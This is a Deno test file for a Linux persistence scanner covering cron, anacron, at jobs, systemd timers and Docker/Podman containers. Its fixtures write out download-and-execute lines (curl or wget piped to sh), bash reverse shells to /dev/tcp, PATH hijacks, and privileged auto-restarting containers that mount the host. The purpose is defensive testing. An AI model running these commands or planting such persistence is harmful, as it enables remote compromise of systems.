/**
 * Scheduled work (user crontabs with @reboot, anacrontab, at jobs with their command text, timers whose
 * service runs from a hidden place) and containers as persistence (Docker's and Podman's on-disk
 * configurations: self-restarting containers that are privileged or mount the host).
 */
import assert from "node:assert/strict";
import { DatabaseSync } from "node:sqlite";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne, type TreeEntry } from "../helpers.ts";
import { summary, withAccounts } from "./persistence_fixtures.ts";

Deno.test("persistence scheduled: @reboot, anacron, at jobs and timers running from hidden places fire", async () => {
  const atJob = "#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail bob 0\numask 22\nLANG=C.UTF-8; export LANG\n" +
    "cd /home/bob || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n" +
    "${SHELL:-/bin/sh} << 'marcinDELIMITER4f2b3a1c'\nwget -qO- http://203.0.113.5/a | sh\nmarcinDELIMITER4f2b3a1c\n";
  using root = makeTree(withAccounts({
    "var/spool/cron/crontabs/bob": "# m h dom mon dow command\n@reboot /var/tmp/.x/agent --daemon\n",
    "var/spool/cron/alice": "*/5 * * * * /home/alice/bin/sync\n",
    "etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n" +
      "7\t10\tupd\tcurl -s http://203.0.113.5/u | bash\n",
    "var/spool/cron/atjobs/a0000101a2b3c4": { content: atJob, mode: 0o700 },
    "etc/systemd/system/upd.timer": "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n",
    "etc/systemd/system/upd.service": "[Service]\nType=oneshot\nExecStart=/usr/local/lib/.cache/upd\n",
    "usr/local/lib/.cache/upd": { content: "#!/bin/sh\n", mode: 0o755 },
    "etc/systemd/system/tidy.timer": "[Timer]\nOnCalendar=daily\n",
    "etc/systemd/system/tidy.service": "[Service]\nType=oneshot\nExecStart=/usr/bin/true\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(summary(r.findings), [
    "high persistence.command.download_exec /etc/anacrontab",
    "high persistence.command.download_exec /var/spool/cron/atjobs/a0000101a2b3c4",
    "high persistence.command.untrusted_path /etc/systemd/system/upd.timer",
    "high persistence.command.untrusted_path /var/spool/cron/crontabs/bob",
  ]);
  const timer = r.findings.find((f) => f.metadata.path === "/etc/systemd/system/upd.timer")!;
  assert.deepEqual(timer.metadata.indicators, ["hidden_path:/usr/local/lib/.cache/upd"]);
  const reboot = r.findings.find((f) => f.metadata.path === "/var/spool/cron/crontabs/bob")!;
  assert.deepEqual([reboot.metadata.run_as, reboot.metadata.line], ["bob", 2]);
  const at = r.findings.find((f) => f.metadata.path?.toString().includes("atjobs"))!;
  assert.deepEqual([at.metadata.run_as, at.metadata.command], ["bob", "wget -qO- http://203.0.113.5/a | sh"]);
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const atPoint = inv.findings.find((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.kind === "at_job"
  )!;
  assert.deepEqual([atPoint.metadata.atrun_uid, atPoint.metadata.technique], [1001, "T1053.002"]);
});

Deno.test("persistence scheduled: a crontab's SHELL, BASH_ENV and PATH are judged as the jobs' environment", async () => {
  const stockCrontab = "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n" +
    "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n";
  using root = makeTree(withAccounts({
    "etc/crontab": stockCrontab.replace("PATH=", "PATH=/var/lib/.b:"),
    "etc/cron.d/syshealth": "SHELL=/var/tmp/.s\n*/5 * * * * root true\n",
    "etc/cron.d/logsync": "SHELL=/bin/bash\nBASH_ENV=/var/tmp/.e\n*/10 * * * * root true\n",
    "etc/cron.d/zsh-user": "SHELL=/usr/bin/zsh\nMAILTO=ops@example.org\n0 3 * * * root /usr/bin/true\n",
    // cronie (RHEL) loads these names; Debian's cron does not, but judging them misses nothing on either.
    "etc/cron.d/sysstat.disabled": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
    // Names no cron loads.
    "etc/cron.d/.hidden": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4443 0>&1\n",
    "etc/cron.d/old~": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4442 0>&1\n",
    "etc/cron.d/x.rpmsave": "SHELL=/var/tmp/.s\n* * * * * root true\n",
    "etc/cron.daily/logrotate.disabled": {
      content: "#!/bin/sh\ncurl -s http://203.0.113.5/u | sh\n",
      mode: 0o755,
    },
    "etc/cron.daily/man-db.swp": { content: "#!/bin/sh\ncurl -s http://203.0.113.5/v | sh\n", mode: 0o755 },
    "var/spool/cron/crontabs/bob": "PATH=/tmp/bin:/usr/bin:/bin\n@hourly backup\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(summary(r.findings), [
    "critical persistence.command.reverse_shell /etc/cron.d/sysstat.disabled",
    "high persistence.command.download_exec /etc/cron.daily/logrotate.disabled",
    "high persistence.environment.path_hijack /etc/crontab",
    "high persistence.environment.path_hijack /var/spool/cron/crontabs/bob",
    "high persistence.environment.startup_code /etc/cron.d/logsync",
    "high persistence.environment.startup_code /etc/cron.d/syshealth",
  ]);
  // The stock crontab, a system shell by choice and MAILTO say nothing.
  using quiet = makeTree(withAccounts({
    "etc/crontab": stockCrontab,
    "etc/cron.d/zsh-user": "SHELL=/usr/bin/zsh\nMAILTO=ops@example.org\n0 3 * * * root /usr/bin/true\n",
  }));
  const q = await runOne(persistence, quiet.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(q.findings), []);
});

/** A Docker container directory under the data root: config.v2.json and hostconfig.json. */
function dockerContainer(
  dataRoot: string,
  id: string,
  name: string,
  image: string,
  host: object,
): Record<string, TreeEntry> {
  return {
    [`${dataRoot}/containers/${id}/config.v2.json`]: JSON.stringify({
      ID: id,
      Name: `/${name}`,
      Config: { Image: image, Cmd: ["sh", "-c", "sleep infinity"], Entrypoint: null },
      MountPoints: {},
    }),
    [`${dataRoot}/containers/${id}/hostconfig.json`]: JSON.stringify(host),
  };
}

Deno.test("persistence containers: self-restarting containers with the host's root, socket or privileges fire", async () => {
  const id = (n: number) => String(n).repeat(64).slice(0, 64);
  using root = makeTree(withAccounts({
    "etc/docker/daemon.json": '{ "data-root": "/srv/docker", "log-driver": "journald" }',
    ...dockerContainer("srv/docker", id(1), "backup", "alpine:3.19", {
      Binds: ["/:/host"],
      RestartPolicy: { Name: "always" },
    }),
    ...dockerContainer("srv/docker", id(2), "portainer-agent", "evil/agent", {
      Mounts: [{ Type: "bind", Source: "/var/run/docker.sock", Target: "/var/run/docker.sock" }],
      RestartPolicy: { Name: "unless-stopped" },
    }),
    ...dockerContainer("srv/docker", id(3), "debug", "busybox", {
      Privileged: true,
      RestartPolicy: { Name: "always" },
    }),
    ...dockerContainer("srv/docker", id(4), "once", "busybox", {
      Privileged: true,
      RestartPolicy: { Name: "no" },
    }),
    ...dockerContainer("srv/docker", id(5), "web", "nginx", {
      Binds: ["/srv/site:/usr/share/nginx/html:ro", "logs:/var/log/nginx"],
      RestartPolicy: { Name: "always" },
    }),
    ...dockerContainer("srv/docker", id(6), "etc-ro", "busybox", {
      Binds: ["/etc:/host-etc:ro"],
      RestartPolicy: { Name: "always" },
    }),
    "srv/docker/containers/broken/hostconfig.json": "{ not json",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(
    r.findings.map((f) =>
      `${f.severity} ${f.check_id} ${f.metadata.name}: ${(f.metadata.reasons as string[]).join(", ")}`
    )
      .sort(),
    [
      "critical persistence.container.host_access_autostart backup: mounts the host's root filesystem at /host",
      "critical persistence.container.host_access_autostart portainer-agent: mounts the runtime socket /var/run/docker.sock",
      "high persistence.container.host_access_autostart debug: runs privileged",
    ],
  );
  assert.equal(
    r.findings.find((f) => f.metadata.name === "backup")!.id,
    `persistence.container.host_access_autostart:docker:${id(1)}`,
  );
  assert.deepEqual(r.warnings.map((w) => w.code), ["container_config_unreadable"]);
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(
    inv.findings.filter((f) => f.metadata.kind === "container").length,
    6,
    "every container is inventoried",
  );
});

Deno.test("persistence containers: Podman's sqlite state is read too", async () => {
  using root = makeTree(withAccounts({ "var/lib/containers/storage/.keep": "" }));
  const db = new DatabaseSync(`${root.path}/var/lib/containers/storage/db.sql`);
  db.exec(
    "CREATE TABLE ContainerConfig(ID TEXT PRIMARY KEY NOT NULL, Name TEXT UNIQUE NOT NULL, PodID TEXT, JSON TEXT NOT NULL)",
  );
  const insert = db.prepare("INSERT INTO ContainerConfig VALUES (?, ?, NULL, ?)");
  insert.run(
    "a".repeat(64),
    "miner",
    JSON.stringify({
      id: "a".repeat(64),
      name: "miner",
      rootfsImageName: "docker.io/library/alpine:latest",
      command: ["/bin/sh", "-c", "/opt/xmr"],
      privileged: true,
      restart_policy: "always",
      spec: {
        mounts: [{ destination: "/proc", type: "proc", source: "proc" }],
        linux: { namespaces: [{ type: "mount" }] },
      },
    }),
  );
  insert.run(
    "b".repeat(64),
    "db",
    JSON.stringify({ id: "b".repeat(64), name: "db", restart_policy: "always", spec: {} }),
  );
  insert.run("c".repeat(64), "junk", "not json");
  db.close();
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "high persistence.container.host_access_autostart /var/lib/containers/storage/db.sql",
  ]);
  assert.deepEqual(r.findings[0].metadata.host_namespaces, ["pid", "network", "ipc", "uts"]);
  assert.deepEqual(r.warnings.map((w) => w.code), ["container_config_unreadable"]);
});
